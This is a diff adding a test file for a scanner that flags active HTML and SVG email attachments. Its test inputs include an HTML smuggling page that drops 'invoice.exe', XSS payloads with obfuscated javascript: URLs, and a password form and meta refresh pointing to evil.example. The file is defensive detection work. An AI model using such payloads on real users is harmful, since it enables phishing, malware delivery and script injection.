@@ -1,0 +1,112 @@
+import { describe, expect, it } from 'vitest';
+import { MarkupScan, markupScanFor } from './active-markup.js';
+import type { MessagePart } from './part-walk.js';
+
+/** The scan's verdict on `text`, fed whole and then one byte at a time (the verdicts must agree). */
+function scan(text: string | Buffer): string | undefined {
+  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text, 'latin1');
+  const whole = new MarkupScan();
+  whole.push(bytes);
+  const byByte = new MarkupScan();
+  for (const byte of bytes) byByte.push(Buffer.of(byte));
+  const verdict = whole.end();
+  expect(byByte.end()).toBe(verdict);
+  return verdict;
+}
+
+const SMUGGLING = `<html><body><p>Your invoice is downloading…</p>
+<script>const b = new Blob([atob('TVqQAAMAAAAEAAAA')], {type: 'application/octet-stream'});
+const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'invoice.exe'; a.click();</script></body></html>`;
+
+describe('MarkupScan: what makes an HTML or SVG file active', () => {
+  it('finds the HTML smuggling page, however its script element is spelt', () => {
+    expect(scan(SMUGGLING)).toBe('a <script> element');
+    expect(scan('<p>x</p><SCRIPT\tsrc=x.js></SCRIPT>')).toBe('a <script> element');
+    expect(scan('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')).toBe(
+      'a <script> element',
+    );
+  });
+
+  it('finds event handlers, frames, objects, forms and foreign objects', () => {
+    expect(scan('<img src=x onerror=alert(1)>')).toBe('an onerror attribute');
+    expect(scan('<svg onload ="go()" xmlns="http://www.w3.org/2000/svg"/>')).toBe('an onload attribute');
+    expect(scan('<body/onpageshow=go()>')).toBe('an onpageshow attribute');
+    expect(scan('<iframe src="https://evil.example/login"></iframe>')).toBe('a <iframe> element');
+    expect(scan('<object data="x.html"></object>')).toBe('a <object> element');
+    expect(scan('<embed src="x.swf">')).toBe('a <embed> element');
+    expect(scan('<form action="https://evil.example/collect"><input type=password></form>')).toBe(
+      'a <form> element',
+    );
+    expect(scan('<svg><foreignObject><div>x</div></foreignObject></svg>')).toBe('a <foreignobject> element');
+    expect(scan('<?xml-stylesheet type="text/xsl" href="x.xsl"?><doc/>')).toBe('a <?xml-stylesheet> element');
+  });
+
+  it('finds script and page URLs in attributes, hidden or not', () => {
+    expect(scan('<a href="javascript:go()">open</a>')).toBe('a script: URL in an attribute');
+    expect(scan('<a href=" java\tscript:go()">open</a>')).toBe('a script: URL in an attribute');
+    expect(scan("<a href='VBScript:go'>open</a>")).toBe('a script: URL in an attribute');
+    expect(scan('<a href="java&#115;cript:go()">open</a>')).toBe(
+      'a numeric character reference inside an attribute',
+    );
+    expect(scan('<a href="javascript&colon;go()">open</a>')).toBe('an &colon; inside an attribute');
+    expect(
+      scan(
+        '<a href="x" download="invoice.exe">a</a><a href="data:application/octet-stream;base64,TVqQ">get</a>',
+      ),
+    ).toBe('a data:application/… URL in an attribute');
+    expect(scan('<a href=data:text/html;base64,PHNjcmlwdD4>x</a>')).toBe(
+      'a data:text/html URL in an attribute',
+    );
+    expect(scan('<animate attributeName="href" values="a;b;c;d;e;f;g;h;i;j;k;l;m;javascript:go()"/>')).toBe(
+      'a script: URL in an attribute',
+    );
+    expect(scan('<meta http-equiv="Refresh" content="0; url=https://evil.example">')).toBe(
+      'a <meta> refresh',
+    );
+  });
+
+  it('cannot read UTF-16 or a compressed SVG, and says so', () => {
+    expect(scan(Buffer.from('\ufeff<p>hello</p>', 'utf16le'))).toMatch(/NUL bytes/);
+    const compressed = new MarkupScan(true);
+    compressed.push(Buffer.from('\x1f\x8b', 'latin1'));
+    expect(compressed.end()).toMatch(/compressed SVG/);
+  });
+
+  it('lets static documents through: a receipt, an SVG logo, entities and inline images', () => {
+    const receipt = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Receipt</title>
+<style>td { padding: 4px } .total { font-weight: bold }</style></head><body>
+<!-- receipt 2026-11 -->
+<table><tr><td>Coffee &amp; cake</td><td>&euro;4.50</td></tr></table>
+<p>Questions? <a href="https://shop.example/help?order=1&amp;lang=en">Contact us</a> &#169; Shop</p>
+<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"> <p>script: none, onion = 3, a &lt; b, online=yes</p>
+</body></html>`;
+    expect(scan(receipt)).toBeUndefined();
+    expect(
+      scan(
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><use href="#a"/><circle r="4"/></svg>',
+      ),
+    ).toBeUndefined();
+  });
+
+  it('scans the parts a browser opens as pages and no body', () => {
+    const part = (p: Partial<MessagePart>): MessagePart => ({
+      id: '2',
+      contentType: 'application/octet-stream',
+      names: [],
+      size: 0,
+      depth: 0,
+      container: false,
+      related: false,
+      ...p,
+    });
+    expect(markupScanFor(part({ names: ['Invoice.HTML '] }))).toBeDefined();
+    expect(markupScanFor(part({ names: ['scan.svg'] }))).toBeDefined();
+    expect(markupScanFor(part({ names: ['archive.mht'] }))).toBeDefined();
+    expect(markupScanFor(part({ contentType: 'image/svg+xml' }))).toBeDefined();
+    expect(markupScanFor(part({ contentType: 'text/html', disposition: 'attachment' }))).toBeDefined();
+    expect(markupScanFor(part({ contentType: 'text/html' }))).toBeUndefined();
+    expect(markupScanFor(part({ names: ['report.pdf'], contentType: 'application/pdf' }))).toBeUndefined();
+    const svgz = markupScanFor(part({ names: ['logo.svgz'] }));
+    expect(svgz?.end()).toMatch(/compressed SVG/);
+  });
+});
